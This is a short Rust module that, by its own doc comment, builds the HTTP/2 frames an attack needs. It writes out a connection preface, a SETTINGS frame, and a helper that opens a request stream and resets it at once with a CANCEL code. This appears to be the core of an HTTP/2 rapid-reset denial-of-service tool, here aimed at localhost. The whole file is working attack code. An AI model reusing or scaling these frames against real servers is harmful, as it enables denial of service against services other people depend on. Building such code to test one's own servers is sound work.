//! The few HTTP/2 frames (RFC 9113) that an attack needs.

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const SETTINGS: &[u8] = &[0, 0, 0, 4, 0, 0, 0, 0, 0];

/// Returns the first bytes of a connection.
pub(crate) fn preface() -> Vec<u8> {
    [PREFACE, SETTINGS].concat()
}

/// Returns the frames of a request that is reset at once.
pub(crate) fn open_and_reset(stream: u32) -> Vec<u8> {
    let path = b"/api/v1/ping";
    // GET, http, a literal path, and the host.
    let fields = [&[0x82, 0x86, 0x04, 12][..], path, &[0x01, 9], b"localhost"].concat();
    let length = u8::try_from(fields.len()).expect("a short list");
    let number = stream.to_be_bytes();
    let headers = [&[0, 0, length, 1, 0x5][..], &number].concat();
    let reset = [&[0, 0, 4, 3, 0][..], &number, &[0, 0, 0, 8]].concat();
    [headers, fields, reset].concat()
}
